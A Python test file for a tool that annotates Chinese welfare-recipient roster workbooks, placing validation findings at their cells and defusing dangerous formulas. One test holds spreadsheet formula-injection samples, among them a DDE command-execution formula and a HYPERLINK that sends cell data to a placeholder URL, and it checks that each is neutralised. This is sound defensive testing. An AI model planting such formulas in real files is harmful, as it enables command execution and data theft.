"""The annotated workbook, opened by another reader: everything of the original, every finding at its cell, ready to be mended."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from contracts.errors import ExchangeError
from producers.reading.annotate import COLUMN, annotate
from producers.reading.content import SUMMARY
from tests.unit.contracts.values.people import id_of
from tests.unit.producers.reading.dialects import TYPED, UNTYPED, sheetml
from tests.unit.producers.reading.files import TEKUN, Row, codes, read, table, tekun, xlsx
from tests.unit.producers.reading.test_any_file import Person, many, writable

A, B, C = (id_of("522722", date(1950, 1, d), 900 + d) for d in (1, 2, 3))
ROWS = [
    ["特困人员（2023年3月）"],
    TEKUN,
    tekun(A[:-1], 备注="=HYPERLINK(1)"),
    tekun(B, name="莫　燕", **{"基本生活总费用（元）": 650.5}),
    tekun(float(C[:17] + "0"), 供养方式="散居"),
    ["合计", 3],
]


@pytest.fixture
def annotated(tmp_path: Path) -> Path:
    source = xlsx(tmp_path / "原表.xlsx", ROWS, hidden=[3])
    annotate(source, read(source), tmp_path / "标注.xlsx")
    return tmp_path / "标注.xlsx"


def test_every_original_cell_is_there_and_text_stays_text(annotated: Path) -> None:
    sheet = openpyxl.load_workbook(annotated)["名册"]
    assert sheet["A1"].value == "特困人员（2023年3月）"
    assert [c.value for c in sheet[2]][:9] == TEKUN
    assert sheet["B3"].value == A[:-1]
    assert (sheet["I3"].value, sheet["I3"].data_type) == ("=HYPERLINK(1)", "s")
    assert sheet["G4"].value == 650.5
    assert sheet["B5"].data_type == "s"  # the lost digits are not hidden by a number again
    assert {sheet[c].number_format for c in ("B3", "B4", "B5", "A3")} == {"@"}
    assert sheet.row_dimensions[4].hidden


def test_every_finding_stands_at_its_cell_and_in_the_added_column(annotated: Path) -> None:
    sheet = openpyxl.load_workbook(annotated)["名册"]
    comments = {c.coordinate: c.comment.text for row in sheet.iter_rows() for c in row if c.comment}
    assert set(comments) == {"B3", "A4", "B5", "D5"}
    assert "[E-ID-LEN]" in comments["B3"]
    assert "17" in comments["B3"]
    column = [c.value for c in sheet["J"]]
    assert column[1] == COLUMN
    assert "B3：" in column[2]
    assert "[E-DICT]" in column[4]
    assert "[E-ID-NUM]" in column[4]
    assert column[5] is None


def test_it_reads_back_with_the_same_findings_and_without_ours(annotated: Path) -> None:
    first, again = read(annotated.with_name("原表.xlsx")), read(annotated)
    assert codes(again) == codes(first)
    assert (again.rows, again.accepted) == (first.rows, first.accepted)


def test_mending_the_marked_cells_is_enough(annotated: Path) -> None:
    book = openpyxl.load_workbook(annotated)
    sheet = book["名册"]
    sheet["B3"], sheet["A4"], sheet["B5"], sheet["D5"] = A, "莫燕", C, "分散供养"
    sheet.row_dimensions[4].hidden = False
    book.save(annotated)
    reading = read(annotated)
    assert (reading.verdict, reading.accepted, codes(reading)) == ("CLEAN", 3, [])


def test_formulas_errors_and_merged_cells(tmp_path: Path) -> None:
    source = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(str(source)) as book:
        page = book.add_worksheet("名册")
        page.merge_range("A1:I1", "特困人员")
        for number, row in enumerate([TEKUN, tekun(A), tekun(B)], start=1):
            page.write_row(number, 0, row)
        page.write_formula("G3", "=300+350", None, 650)
        page.write_formula("E4", "=VLOOKUP(A4,[1]x!A:B,2)", None, "#N/A")
    first = read(source)
    annotate(source, first, tmp_path / "b.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx")["名册"]
    assert sheet["G3"].value == "=300+350"
    assert sheet["E4"].value == "=NA()"  # nothing of another file is asked for
    assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:I1"]
    again = read(tmp_path / "b.xlsx")
    assert (codes(again), again.rows, again.accepted) == (codes(first), 2, 0)


@pytest.mark.parametrize(
    ("formula", "value", "written"),
    [
        ('=HYPERLINK("http://x/?"&B3,"a")', "分散供养", '="分散供养"'),
        ("=cmd|' /C calc'!A0", "分散供养", '="分散供养"'),
        ("=VLOOKUP(1,[1]x!A:B,2)", 650, "=650"),
        ("=A1&\"x\"", 'a"b', '="a""b"'),
    ],
)
def test_a_formula_that_could_do_something_is_its_value(formula: str, value: str | float, written: str, tmp_path: Path) -> None:
    source = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(str(source)) as book:
        page = book.add_worksheet("名册")
        for number, row in enumerate([TEKUN, tekun(A), tekun(B)]):
            page.write_row(number, 0, row)
        page.write_formula("D2", formula, None, value)
    first = read(source)
    annotate(source, first, tmp_path / "b.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx")["名册"]
    assert sheet["D2"].value == written
    assert codes(read(tmp_path / "b.xlsx")) == codes(first)
    assert "E-FILE-FORMULA" in {c for _, c in codes(first)}


def cells_of_openpyxl(path: Path) -> list[list[object]]:
    """What another reader finds in the first sheet, without the added column and blank ends."""
    sheet = openpyxl.load_workbook(path, data_only=True).worksheets[0]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    head = next((r for r in rows if COLUMN in r), None)
    width = head.index(COLUMN) if head else 9
    return [[("" if v is None else v) for v in row[:width]] for row in rows]


@many(25)
@given(st.sampled_from(sorted(TYPED | UNTYPED)), st.lists(Person, min_size=1, max_size=8), st.integers(0, 2))
def test_from_every_dialect_and_read_again_it_says_the_same(
    tmp_path_factory: pytest.TempPathFactory, dialect: str, people: list[list[object]], titles: int
) -> None:
    folder = tmp_path_factory.mktemp("annotated")
    rows: list[Row] = [*[["特困人员花名册"]] * titles, TEKUN, *([writable(dialect, v) for v in p] for p in people), ["小计", "3人"]]
    source = (TYPED | UNTYPED)[dialect](folder / "a.xls", rows)
    first = read(source, "TEKUN_PERSON")
    annotate(source, first, folder / "b.xlsx")
    again = read(folder / "b.xlsx", "TEKUN_PERSON")
    assert (again.verdict, again.rows, again.accepted) == (first.verdict, first.rows, first.accepted)
    plain = [(c, "E-ID" if code.startswith("E-ID-") else code) for c, code in codes(first)]
    assert [(c, "E-ID" if code.startswith("E-ID-") else code) for c, code in codes(again)] == plain
    for one, two in zip(first.tables, again.tables, strict=True):
        assert one.accepted.drop("_file", "_sheet").equals(two.accepted.drop("_file", "_sheet"))
    shown = cells_of_openpyxl(folder / "b.xlsx")
    for number, row in enumerate(rows):
        texts = [str(v).strip("\n ") for v in shown[number]] if number < len(shown) else []
        for value in row:
            if isinstance(value, str) and value.strip("\n ") and not value.startswith("=") and "\t" not in value:
                assert value.strip("\n ") in texts or dialect.startswith(("html", "mhtml"))


def test_every_sheet_comes_back_and_the_summary_does_not(tmp_path: Path) -> None:
    source = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(str(source)) as book:
        page, notes, gone = (book.add_worksheet(n) for n in ("名册", "填表说明", "旧表"))
        gone.hide()
        for number, row in enumerate([TEKUN, *(tekun(f"{n[:-1]}") for n in (A, B)), tekun(C, name="莫　燕")]):
            page.write_row(number, 0, row)
        notes.write_row(3, 1, ["说明", 12])
        gone.write_row(0, 0, ["姓名", B])
    first = read(source)
    annotate(source, first, tmp_path / "b.xlsx")
    book = openpyxl.load_workbook(tmp_path / "b.xlsx")
    assert book.sheetnames == ["名册", "填表说明", "旧表", SUMMARY]
    assert book["旧表"].sheet_state == "hidden"
    assert [c.value for c in book["填表说明"][4]][1:3] == ["说明", 12]
    summary = [[c.value for c in row][1:4] for row in book[SUMMARY].iter_rows(min_row=3)]
    assert summary == [["E-ID-LEN", 2, "名册!B2 名册!B3"], ["W-HIDDEN", 1, "旧表"], ["I-FIXED", 1, "名册!A4"]]
    assert codes(read(tmp_path / "b.xlsx")) == codes(first)
    annotate(tmp_path / "b.xlsx", read(tmp_path / "b.xlsx"), tmp_path / "c.xlsx")
    assert openpyxl.load_workbook(tmp_path / "c.xlsx").sheetnames == book.sheetnames


def test_names_that_no_workbook_takes(tmp_path: Path) -> None:
    source = sheetml(tmp_path / "a.xls", [TEKUN, tekun(A[:-1])], sheet="城关镇[2023/3]特困人员名单" + "长" * 40)
    annotate(source, read(source), tmp_path / "b.xlsx")
    book = openpyxl.load_workbook(tmp_path / "b.xlsx")
    assert book.sheetnames[0].startswith("城关镇_2023_3_特困人员名单")
    assert book.worksheets[0]["B2"].comment is not None


@pytest.mark.parametrize("dialect", sorted(TYPED | UNTYPED))
def test_the_mended_copy_of_any_dialect_is_accepted(dialect: str, tmp_path: Path) -> None:
    source = (TYPED | UNTYPED)[dialect](tmp_path / "a.xls", [["特困人员（2023年3月）"], TEKUN, tekun(A[:-1]), tekun(B, 供养方式="散居")])
    first = read(source)
    assert first.rejected == 2
    annotate(source, first, tmp_path / "b.xlsx")
    book = openpyxl.load_workbook(tmp_path / "b.xlsx")
    book.worksheets[0]["B3"], book.worksheets[0]["D4"] = A, "分散供养"
    book.save(tmp_path / "b.xlsx")
    mended = read(tmp_path / "b.xlsx")
    assert (mended.verdict, mended.accepted) == ("CLEAN", 2)


def test_a_csv_comes_back_as_a_workbook_in_english_too(tmp_path: Path) -> None:
    source = table(tmp_path / "a.csv", ROWS[1:3])
    annotate(source, read(source), tmp_path / "b.xlsx", "en")
    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx").worksheets[0]
    assert "must have 18 characters, found 17" in sheet["B2"].comment.text


def test_what_is_said_of_the_whole_file_stands_in_its_first_cell(tmp_path: Path) -> None:
    from producers.reading import read_file
    from tests.unit.producers.reading.files import MARCH

    source = table(tmp_path / "a.csv", [TEKUN, tekun(A)])
    reading = read_file(source, period=MARCH)
    assert codes(reading) == [(None, "W-AREA")]
    annotate(source, reading, tmp_path / "b.xlsx")
    assert "[W-AREA]" in openpyxl.load_workbook(tmp_path / "b.xlsx").worksheets[0]["A1"].comment.text


def test_a_refused_file_is_refused_again(tmp_path: Path) -> None:
    source = xlsx(tmp_path / "a.xlsx", [["特困人员（2023年2月）"], TEKUN, tekun(A)])
    with pytest.raises(ExchangeError, match="E-MONTH"):
        annotate(source, read(source), tmp_path / "b.xlsx")
    assert not (tmp_path / "b.xlsx").exists()


def test_a_clerks_own_sheet_of_the_summarys_name_is_read(tmp_path: Path) -> None:
    path = tmp_path / "两张表.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        for name, number in (("名册", A), (SUMMARY, B)):
            sheet = book.add_worksheet(name)
            for row, values in enumerate([TEKUN, tekun(number)]):
                sheet.write_row(row, 0, values)
    assert read(path, "TEKUN_PERSON").accepted == 2
